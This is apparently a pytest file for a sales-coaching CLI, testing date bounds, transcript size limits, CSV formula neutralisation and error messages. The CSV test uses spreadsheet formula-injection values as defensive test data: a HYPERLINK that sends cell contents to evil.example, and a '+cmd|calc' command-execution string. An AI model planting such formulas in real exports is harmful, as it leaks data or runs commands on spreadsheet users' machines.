"""Bounded input on the command line: dates, transcript sizes, spreadsheet formulas; and errors that say why."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from copilot.cli.main import main
from copilot.errors import ModelUnavailableError

REPO = Path(__file__).resolve().parents[2]
DEMO = REPO / "knowledge" / "demo_team" / "team.yaml"
TRANSCRIPT = REPO / "evals" / "review" / "conversations" / "coaching_good.txt"


@pytest.fixture
def loaded(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["team", "load", str(DEMO), "--no-shift"]) == 0
    capsys.readouterr()


def one_line_error(capsys: pytest.CaptureFixture[str], args: list[str], *needles: str) -> str:
    code = main(args)
    out = capsys.readouterr()
    assert code == 2, (code, out.out[-300:], out.err[-300:])
    assert "Traceback" not in out.err and len(out.err.strip().splitlines()) == 1, out.err
    for needle in needles:
        assert needle in out.err, out.err
    return out.err


@pytest.mark.parametrize(
    "args",
    [
        ["prep", "--rep", "rep-marcus-bell", "--no-model", "--today", "9999-12-31"],
        ["prep", "--rep", "rep-marcus-bell", "--no-model", "--today", "0001-01-01"],
        ["team", "show", "--today", "9999-12-31"],
        ["team", "load", str(DEMO), "--today", "9999-12-31"],
        ["scorecard", "--since", "0001-01-01"],
        ["note", "add", "--rep", "rep-marcus-bell", "--text", "x", "--date", "9999-12-31"],
        ["assign", "--rep", "rep-marcus-bell", "--activity", "act-roleplay-discovery", "--due", "9999-12-31"],
        ["review", str(TRANSCRIPT), "--kind", "coaching", "--date", "9999-12-31"],
        ["scenarios", "--rep", "rep-marcus-bell", "--today", "9999-12-31"],
        ["roleplay", "--no-model", "--rep", "rep-marcus-bell", "--today", "9999-12-31"],
    ],
    ids=lambda a: " ".join(a[:2]),
)
def test_a_date_outside_the_sane_range_is_refused_with_the_fix(
    loaded: None, capsys: pytest.CaptureFixture[str], tmp_path: Path, args: list[str]
) -> None:
    before = tmp_path / "before.yaml"
    assert main(["export", "--team", "team-mid-market-east", "--today", "2026-11-20", "-o", str(before)]) == 0
    capsys.readouterr()
    one_line_error(capsys, args, "outside the dates the copilot works with", "1970-01-01 to 2199-12-31", "fix:")
    after = tmp_path / "after.yaml"
    assert main(["export", "--team", "team-mid-market-east", "--today", "2026-11-20", "-o", str(after)]) == 0
    assert after.read_text(encoding="utf-8") == before.read_text(encoding="utf-8")


def test_an_oversized_transcript_is_refused_before_any_work(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "big.txt"
    turn = TRANSCRIPT.read_text(encoding="utf-8")
    big.write_text(turn * (1_100_000 // len(turn) + 1), encoding="utf-8")  # just over the 1 MB default
    from copilot.review import measures

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("the transcript was parsed")

    original = measures.parse_transcript
    monkeypatch.setattr(measures, "parse_transcript", never)
    err = one_line_error(capsys, ["review", str(big), "--kind", "coaching"], "over the 1 MB limit", "big.txt")
    assert "COPILOT_MAX_TRANSCRIPT_BYTES" in err and "in parts" in err
    # a folder is checked whole before the first file is reviewed
    folder = tmp_path / "calls"
    folder.mkdir()
    (folder / "a.txt").write_text(turn, encoding="utf-8")
    (folder / "b.txt").write_bytes(big.read_bytes())
    one_line_error(capsys, ["review", str(folder), "--kind", "coaching"], "b.txt", "over the 1 MB limit")
    monkeypatch.setattr(measures, "parse_transcript", original)  # a transcript under the limit is reviewed as before
    assert main(["review", str(folder / "a.txt"), "--kind", "coaching", "--json"]) == 0
    monkeypatch.setenv("COPILOT_MAX_TRANSCRIPT_BYTES", "2000")  # the limit is a setting
    one_line_error(capsys, ["review", str(folder / "a.txt"), "--kind", "coaching"], "over the 2 KB limit")


def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
    loaded: None, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    team = tmp_path / "team.yaml"
    team.write_text(
        "kind: team\nversion: 1\nanchor_date: 2026-11-20\nteam:\n  id: team-f\n  name: '+cmd|calc'\n"
        "  manager: {id: mgr-f, name: '@SUM(1+1)', email: mgr.f@corp.example}\n"
        f"  reps:\n    - {{id: rep-f, name: '{hostile}', email: rep.f@corp.example, profile: steady, "
        "start_date: 2025-01-06, notes: x}\n"
        "observations:\n  - {id: obs-f, rep: rep-f, date: 2026-11-01, interaction: demo, observer: manager, scores: {demo.recap: 3},\n"
        "     evidence: {demo.recap: '-2+3'}}\n",
        encoding="utf-8",
    )
    assert main(["team", "load", str(team), "--no-shift"]) == 0
    out = tmp_path / "team.csv"
    assert main(["export", "--team", "team-f", "--today", "2026-11-20", "-o", str(out)]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [v for row in rows for v in row.values() if v]
    assert "'" + hostile in cells and "'+cmd|calc" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert main(["import", str(out), "--replace", "--json"]) == 0
    capsys.readouterr()
    again = tmp_path / "again.yaml"
    assert main(["export", "--team", "team-f", "--today", "2026-11-20", "-o", str(again)]) == 0
    text = again.read_text(encoding="utf-8")
    assert hostile in text and "'" + hostile not in text  # the apostrophe is for spreadsheets only


def test_ask_says_why_the_model_failed_without_json(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from copilot.llm.fake import FakeChatModel
    from copilot.runtime import Runtime

    monkeypatch.setenv("COPILOT_LLM_BACKEND", "fake")
    monkeypatch.setenv("COPILOT_EMBEDDING_BACKEND", "fake")
    broken = FakeChatModel()
    fault = ModelUnavailableError(
        "the endpoint refused the connection", fix="start the server or set COPILOT_LLM_BASE_URL"
    )
    broken.enqueue(fault, fault, fault)
    monkeypatch.setattr(Runtime, "chat_model", property(lambda self: broken))
    assert main(["kb", "ingest", "--json"]) == 0
    capsys.readouterr()
    assert main(["ask", "How do I answer a pilot-first request?"]) == 0
    out = capsys.readouterr()
    assert "model failed: the endpoint refused the connection" in out.err
    assert "fix: start the server or set COPILOT_LLM_BASE_URL" in out.err


def test_roleplay_says_when_the_buyer_spoke_prepared_lines(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("COPILOT_LLM_BACKEND", "fake")
    lines = tmp_path / "lines.txt"
    lines.write_text("What made you look at this now?\nWhat would a good pilot prove for you?\n", encoding="utf-8")
    assert main(["scenarios", "--json"]) == 0
    scenario = json.loads(capsys.readouterr().out)["scenarios"][0]["id"]
    assert main(["roleplay", "--scenario", scenario, "--no-model", "--rep-lines", str(lines)]) == 0
    out = capsys.readouterr()
    assert "the buyer spoke prepared lines" in out.err and "no model was used" in out.err


@pytest.mark.parametrize("shift", [[], ["--no-shift"]])
def test_a_team_file_with_a_date_far_out_is_refused(
    loaded: None, capsys: pytest.CaptureFixture[str], tmp_path: Path, shift: list[str]
) -> None:
    team = tmp_path / "team.yaml"
    team.write_text(
        "kind: team\nversion: 1\nanchor_date: 2026-11-20\nteam:\n  id: team-d\n  name: D\n"
        "  manager: {id: mgr-d, name: Dee, email: mgr.d@corp.example}\n"
        "  reps:\n    - {id: rep-d, name: Rod, email: rep.d@corp.example, profile: steady, start_date: 2025-01-06}\n"
        "observations:\n  - {id: obs-d, rep: rep-d, date: 9999-12-31, interaction: demo, observer: manager, scores: {demo.recap: 3}}\n",
        encoding="utf-8",
    )
    code = main(["team", "load", str(team), *shift])
    out = capsys.readouterr()
    assert code == 2 and "Traceback" not in out.err and "fix:" in out.err
    assert "9999" in out.err
    assert main(["team", "show", "--team", "team-d"]) != 0  # nothing was written
